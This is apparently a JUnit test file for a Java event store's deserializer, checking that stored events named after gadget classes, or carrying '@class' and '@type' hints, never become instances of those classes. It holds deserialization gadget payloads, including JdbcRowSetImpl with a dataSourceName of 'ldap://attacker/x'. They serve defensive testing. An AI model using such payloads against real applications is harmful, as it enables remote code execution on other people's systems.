package dev.eventline.jdbc.reliability;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.eventline.core.EventData;
import dev.eventline.core.ExpectedVersion;
import dev.eventline.core.RecordedEvent;
import dev.eventline.core.SerializationException;
import dev.eventline.core.UnknownEventTypeException;
import dev.eventline.core.serialization.EventSerializer;
import dev.eventline.core.serialization.EventTypes;
import dev.eventline.jdbc.JdbcEventStore;
import dev.eventline.jdbc.testing.H2TestDatabases;
import java.math.BigDecimal;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * X-4 of RELIABILITY.md on the read path: events stored with type names of classes an attacker would like to see
 * instantiated, or with polymorphic type hints in the payload, never reach a class outside the explicit registry.
 */
class HostileTypeNameTest {

    record Deposited(String account, BigDecimal amount) {
    }

    private static final EventSerializer SERIALIZER = EventSerializer.of(EventTypes.builder()
        .register("Deposited", Deposited.class).build());

    @Test
    void stored_events_named_after_gadget_classes_are_unknown_types_never_instantiated() {
        // given
        JdbcEventStore store = JdbcEventStore.builder(H2TestDatabases.inMemory()).build();
        store.createSchema();
        List<String> hostile = List.of("java.lang.Runtime", "com.sun.rowset.JdbcRowSetImpl",
            "org.springframework.context.support.ClassPathXmlApplicationContext",
            "dev.eventline.jdbc.reliability.HostileTypeNameTest$Deposited", "Deposited$Inner", "[Ljava.lang.Object;");
        for (String type : hostile) {
            store.append("x4", ExpectedVersion.any(), List.of(EventData.of(type,
                "{\"dataSourceName\":\"ldap://attacker/x\",\"autoCommit\":true}")));
        }
        // when, then
        for (RecordedEvent event : store.readStream("x4").toList()) {
            Throwable thrown = catchThrowable(() -> SERIALIZER.deserialize(event));
            assertThat(thrown).as(event.type()).isInstanceOfSatisfying(UnknownEventTypeException.class,
                e -> assertThat(e.typeName()).isEqualTo(event.type()));
        }
    }

    @Test
    void type_hints_inside_a_registered_events_payload_are_ignored_or_refused() {
        // given
        JdbcEventStore store = JdbcEventStore.builder(H2TestDatabases.inMemory()).build();
        store.createSchema();
        List<String> payloads = List.of(
            "{\"@class\":\"java.lang.Runtime\",\"account\":\"a\",\"amount\":1}",
            "{\"account\":[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker/x\"}],\"amount\":1}",
            "{\"account\":{\"@type\":\"java.lang.ProcessBuilder\"},\"amount\":1}");
        for (String payload : payloads) {
            store.append("x4-hints", ExpectedVersion.any(), List.of(EventData.of("Deposited", payload)));
        }
        // when, then
        for (RecordedEvent event : store.readStream("x4-hints").toList()) {
            Object read;
            try {
                read = SERIALIZER.deserialize(event);
            } catch (SerializationException refused) {
                continue;
            }
            assertThat(read).as(event.payloadAsString()).isInstanceOf(Deposited.class);
            assertThat(((Deposited) read).account()).isEqualTo("a");
        }
    }
}
